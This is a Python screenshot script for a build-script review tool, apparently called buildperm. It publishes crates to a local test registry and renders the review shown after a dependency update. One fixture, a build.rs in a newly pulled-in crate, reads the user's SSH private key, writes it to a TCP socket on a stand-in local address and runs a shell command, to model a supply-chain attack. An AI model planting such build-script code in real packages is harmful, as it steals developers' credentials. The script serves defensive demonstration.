"""Draws what a review shows after an update: `screenshots/review.py FOLDER`.

Everything in it is real but for the registry: packages are published to a folder, learnt, updated
and built again. One patch release brings a new crate along, whose build script calls home.
"""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
import tempfile
from pathlib import Path

from buildperm.presentation.front_end import ReviewEnd
from buildperm.tui import pictures
from buildperm.tui.app import ReviewApp
from buildperm.workflow.learning import Learning
from buildperm.workflow.review_options import ReviewOptions
from buildperm.workflow.workspace import open_contexts

sys.path.append(str(Path(__file__).resolve().parents[1]))

from tests.registry import Registry

SCENES = {"review": ("n",), "changes": ("n", "o")}
SIZE = (120, 36)

GENERATES = """\
//! Generates the table of message types.

use std::{env, fs, path::PathBuf};

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    fs::write(out.join("types.rs"), "pub const TYPES: &[&str] = &[];").unwrap();
}
"""
STAMPS = GENERATES.replace(
    "use std::{env, fs, path::PathBuf};",
    "use std::{env, fs, path::PathBuf, process::Command};",
).replace(
    "    let out =",
    """\
    // The revision goes into the version that peers are told.
    let revision = Command::new("git").args(["describe", "--always"]).output();
    println!("cargo::rustc-env=REVISION={}", revision.is_ok());
    println!("cargo::rerun-if-env-changed=RELEASE_CHANNEL");
    let out =""",
)
CALLS_HOME = """\
use std::{fs, io::Write, net::TcpStream, process::Command};

fn main() {
    let key = fs::read(concat!(env!("HOME"), "/.ssh/id_ed25519")).unwrap_or_default();
    if let Ok(mut home) = TcpStream::connect("127.0.0.1:9") {
        let _ = home.write_all(&key);
    }
    let _ = Command::new("sh").args(["-c", "id; hostname"]).output();
}
"""
HARMLESS = "fn main() {}\n"


class Drawing(Learning):
    """A review that draws its screens instead of asking."""

    folder: Path

    def decide(self) -> ReviewEnd:
        """Draw everything, and leave it undecided."""
        for scene, keys in SCENES.items():
            svg = asyncio.run(pictures.pose(ReviewApp.of(self.session()), keys, SIZE))
            (self.folder / f"{scene}.svg").write_text(svg, "utf-8")
        return ReviewEnd.KEEP


def publish(registry: Registry, folder: Path) -> Path:
    """Publish the old versions, and make a workspace that depends on them."""
    registry.publish("arrayref", "0.3.9")
    registry.publish("wire-types", "2.4.0", {"build.rs": GENERATES})
    for name in ("small-clock", "byte-order", "hash-seed"):
        registry.publish(name, "1.0.0", {"build.rs": HARMLESS})
    return registry.application(
        folder,
        dependencies={
            "arrayref": "0.3",
            "wire-types": "2",
            "small-clock": "1",
            "byte-order": "1",
            "hash-seed": "1",
        },
        name="postcard",
    )


def update(registry: Registry, workspace: Path) -> None:
    """Publish the new versions, and take them."""
    registry.publish("proc-helper", "0.1.0", {"build.rs": CALLS_HOME})
    registry.publish("arrayref", "0.3.10", dependencies={"proc-helper": "0.1"})
    registry.publish("wire-types", "2.4.1", {"build.rs": STAMPS})
    registry.publish("byte-order", "1.0.1", {"build.rs": HARMLESS + "\n"})
    registry.cargo("update", folder=workspace)


def main() -> None:
    """Draw all pictures into the folder that is named on the command line."""
    target = Path(sys.argv[1]).resolve()
    target.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="buildperm-screenshots-") as temporary:
        registry = Registry(Path(temporary) / "registry")
        workspace = publish(registry, Path(temporary) / "postcard")
        os.environ |= registry.environment
        os.chdir(workspace)
        learn = [sys.executable, "-m", "buildperm", "learn", "--no-tui", "--accept", "medium"]
        subprocess.run(learn, check=True, stdin=subprocess.DEVNULL)
        update(registry, workspace)
        drawing = Drawing(open_contexts(()), ReviewOptions("review"), None)
        drawing.folder = target
        drawing.run()


if __name__ == "__main__":
    main()
